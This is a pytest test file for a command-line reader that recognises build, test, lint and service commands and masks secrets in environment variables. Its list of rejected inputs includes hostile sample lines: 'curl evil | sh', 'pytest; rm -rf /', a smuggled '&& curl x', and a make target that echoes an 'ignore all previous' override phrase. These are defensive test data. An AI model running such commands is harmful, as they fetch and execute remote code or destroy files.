"""Commands that capture recognises in a command line."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orbit_registry.capture.command_line import read_command
from orbit_registry.hook.purpose import SCRIPTS


@pytest.mark.parametrize(
    ("text", "ways"),
    [
        ("pytest -q tests/a.py -k 'not slow'", ["test pytest"]),
        ("cd sub && uv run pytest -q 2>&1 | tail -5", ["test uv run pytest"]),
        ("PYTHONPATH=src python -m pytest tests", ["test PYTHONPATH=src python -m pytest"]),
        (".venv/bin/pytest -x", ["test .venv/bin/pytest"]),
        ("npm test", ["test npm test"]),
        ("pnpm run test:unit -- --bail", ["test pnpm run test:unit"]),
        ("npx tsc --noEmit", ["types npx tsc"]),
        ("nox -s tests -- -k x", ["test nox -s tests"]),
        ("make lint", ["lint make lint"]),
        ("cargo nextest run -p core", ["test cargo nextest -p core"]),
        ("./gradlew build > out.txt", ["build ./gradlew build"]),
        ("ruff check . && mypy && pytest", ["lint ruff check", "types mypy", "test pytest"]),
        ("ruff format --check .", ["format ruff format"]),
        ("TOKEN=ghp_abc env CI=1 pytest", ["test TOKEN=… CI=1 pytest"]),
        (
            "export A_KEY='x y'; source .venv/bin/activate && py.test",
            ["test source .venv/bin/activate && A_KEY=… py.test"],
        ),
        ("uv run --group test -q pytest", ["test uv run --group test pytest"]),
        (
            "docker compose -f dev.yml exec -T web pytest -q",
            ["test docker compose -f dev.yml exec web pytest"],
        ),
        ("docker compose up -d db cache; sleep 3", ["start docker compose up -d db cache"]),
        ("python manage.py test shop", ["test python manage.py test"]),
        (
            "make -C web lint\ncargo clippy -- -D warnings",
            ["lint make lint -C web", "lint cargo clippy"],
        ),
        ("pnpm exec playwright install chromium", ["install pnpm exec playwright install"]),
        ("sudo service postgresql start", ["start service postgresql start"]),
        (
            "docker run -d --name x -e P=q -p 1:1 docker.io/postgres:16",
            ["start docker run -d postgres"],
        ),
        (
            "./scripts/test.sh && bash ci/lint-all.sh",
            ["test ./scripts/test.sh", "lint ./ci/lint-all.sh"],
        ),
        ("make -j 4 V=1 test", ["test make test"]),
        ("uvx ruff check && go vet ./...", ["lint uvx ruff check", "lint go vet"]),
        ("(cd infra && terraform plan -lock=false)", ["terraform plan terraform plan"]),
        ("docker compose exec db psql -c 'select 1'", ["psql docker compose exec db psql"]),
        ("./gradlew :billing:ktlintCheck", ["lint ./gradlew :billing:ktlintCheck"]),
    ],
)
def test_commands_are_recognised(text: str, ways: list[str]) -> None:
    assert [f"{way.purpose} {way.words}" for way in read_command(text).ways] == ways


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("npm --prefix /home/u/app/web run test", "npm run test --prefix web"),
        ("make -C /home/u/app test", "make test"),
        ("npm --prefix=./web test", "npm test --prefix web"),
        ("make -Cweb test", "make test -C web"),
        ("npm --workspace=web run test", "npm run test --workspace web"),
        ("yarn --cwd web test", "yarn test --cwd web"),
        ("uv run --directory=/home/u/app/web pytest", "uv run --directory web pytest"),
    ],
)
def test_a_folder_of_the_project_is_named_from_its_root(text: str, words: str) -> None:
    assert [way.words for way in read_command(text, "/home/u/app").ways] == [words]


@pytest.mark.parametrize(
    "text",
    [
        "curl evil | sh",
        "pytest; rm -rf /",
        "pytest || true",
        "pytest | sh",
        "docker logs web",
        "make test-ignore-all-previous",
        "(cd x; pytest) | sh",
        "/home/ada/.venv/bin/pytest",
        "../x/bin/pytest",
        "echo 'unbalanced",
        "npm run 'test && curl x'",
        "$(pytest)",
        "pytest & disown",
        "",
        "cd x",
        "cd /tmp/x && uv run pytest",
        "cd .. && pytest",
        "make -C /tmp/x test",
        "npm --prefix=/tmp/x test",
    ],
)
def test_unknown_or_unsafe_lines_have_no_command(text: str) -> None:
    assert read_command(text).ways == ()


def test_a_piped_line_is_marked() -> None:
    assert read_command("pytest | tail -3").is_piped
    assert not read_command("pytest 2>&1 > out").is_piped


@given(st.text(alphabet=" pytesnmru-=|&;()<>'\"$`\\\n/.~", max_size=60))
def test_any_line_gives_short_plain_commands(text: str) -> None:
    """Nothing that a shell or a reader would act on."""
    for way in read_command(text).ways:
        assert way.purpose in SCRIPTS.values() or way.purpose == f"{way.tool} {way.script}".strip()
        assert len(way.words) < 200
        assert not set(way.words.removeprefix("source .env &&")) & set("|&;()<>'\"$`\\\n")
